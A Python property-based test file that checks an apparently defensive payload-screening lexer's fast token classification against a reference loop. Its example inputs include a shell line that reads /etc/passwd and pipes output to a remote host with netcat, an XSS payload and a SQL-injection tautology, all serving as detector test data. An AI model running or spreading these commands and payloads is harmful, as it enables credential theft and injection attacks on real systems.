"""The lexer's fast ways held to their definitions: chunk-by-chunk lexing to `LEXEME.findall`, and the
classes (table look-ups, rules only where context matters) to the plain sequential loop below, which is
how `tokens.classes` was written before it was made cheaper."""

from __future__ import annotations

import random

from hypothesis import example, given, settings
from hypothesis import strategies as st

from screening import preprocess, tokens
from screening.corpus import generators
from screening.tokens import (
    _APOSTROPHE,
    _CMD_WORD,
    _COMMAND_AFTER,
    _CONTEXT_BEFORE,
    _LT,
    _SCHEME_COLONS,
    _SHELL,
    _SHELL_STRONG,
    _SHELL_WEAK,
    _TAG_OPENERS,
    _WORD,
    DANGER_TAGS,
    EXTENSIONS,
    HEADER_WORDS,
    JS_SCHEMES,
    LEXEME,
    NOSQL_OPS,
    PUNCT,
    RARE_SCHEMES,
    WEB_SCHEMES,
    C,
    _context_free,
)


def reference_classes(text: str) -> list[int]:
    """The definition: every lexeme of `LEXEME.findall`, its context-free class, then the rules in order."""
    out: list[int] = []
    previous = ""
    if "'" in text:
        text = _APOSTROPHE.sub("\u2019", text)
    for token in LEXEME.findall(text):
        cls = _context_free(token)
        if cls in _SHELL or token in _SCHEME_COLONS or previous in _CONTEXT_BEFORE:
            cls = _reference_in_context(token, cls, previous, out)
        out.append(cls)
        previous = token
    return out


def _reference_in_context(token: str, cls: int, previous: str, out: list[int]) -> int:
    if token in PUNCT:
        if token in _SCHEME_COLONS and out and previous:
            if previous in JS_SCHEMES:
                out[-1] = C["js_scheme"]
            elif previous in RARE_SCHEMES:
                out[-1] = C["rare_scheme"]
            elif previous in WEB_SCHEMES:
                out[-1] = C["web_scheme"]
        return cls
    first = token[0]
    if not (first.isalpha() or first == "_"):
        return cls
    if (cls == _SHELL_WEAK or cls == _SHELL_STRONG) and previous not in _COMMAND_AFTER:
        cls = _CMD_WORD if cls == _SHELL_STRONG and previous != "/" else (
            _SHELL_STRONG if cls == _SHELL_STRONG else _WORD)
    if previous in _TAG_OPENERS or previous == "/" and len(out) > 1 and out[-2] == _LT:
        cls = C["html_danger_tag"] if token in DANGER_TAGS else C["html_tag"]
    elif previous == "." and token in EXTENSIONS:
        cls = C["file_ext"]
    elif previous == "$":
        cls = C["nosql_op"] if token in NOSQL_OPS else C["shell_var"]
    elif previous == "%" and token.isalnum():
        cls = C["shell_var"]
    elif previous == "\n" and token in HEADER_WORDS:
        cls = C["crlf_header"]
    return cls


# Text made of what the rules and the pattern care about: ASCII letters, digits and punctuation, every
# ASCII blank (the \x1c-\x1f separators too), line breaks, the typographic apostrophe, and a few
# non-ASCII letters, digits and blanks (those take the pattern over the whole text).
_ALPHABET = st.sampled_from([
    *"abcxyz", *"ABZ", *"0123456789", *"_-'\"`;()[]{}<>/\\.:$%&|=!?*+~^@#,", " ", "  ", "\t", "\r", "\x0b",
    "\x0c", "\x1c", "\x1f", "\n", "\u2019", "é", "ß", "\u0663", "\u00a0", "\u2028",
])
_WORDS = st.sampled_from(["cat", "ls", "echo", "wget", "bash", "http", "https", "javascript", "file", "script",
                          "img", "php", "ne", "where", "set", "location", "or", "union", "select", "passwd", "etc",
                          "onload", "__class__", "0x41", "1.2.3.4", "127.0.0.1", "://", "..", "&lt;", "&#39;"])
_TEXT = st.lists(st.one_of(_ALPHABET, _WORDS), max_size=40).map("".join)


@settings(max_examples=1500, deadline=None)
@given(_TEXT)
@example("cat /etc/passwd; ls -la | nc 1.2.3.4 80")
@example("<img src=x onerror=alert(1)> javascript:alert(1) http://a.php?id=1' or '1'='1")
def test_lexemes_and_classes_are_their_definitions(text: str) -> None:
    assert tokens.lexemes(text) == LEXEME.findall(text)
    for classes in (tokens.python_classes, tokens.classes):  # the definition, and the compiled scanner
        assert classes(text) == reference_classes(text)
        assert classes(text) == reference_classes(text)  # again, from the caches
        normalised = preprocess.normalize(text)
        assert classes(normalised) == reference_classes(normalised)


def test_every_generated_payload_lexes_as_defined() -> None:
    rng = random.Random(3)
    for sample in generators.generated(rng, 150):
        for text in (sample.text, preprocess.normalize(sample.text)):
            assert tokens.python_classes(text) == reference_classes(text), text
            assert tokens.classes(text) == reference_classes(text), text


@given(st.one_of(st.sampled_from(sorted(tokens.WORDS)), st.text(max_size=8), _WORDS, st.sampled_from(sorted(PUNCT))))
def test_the_triggers_hold_every_context_dependent_lexeme(token: str) -> None:
    if token and (_context_free(token) in _SHELL or token in _SCHEME_COLONS):
        assert token in tokens._TRIGGERS
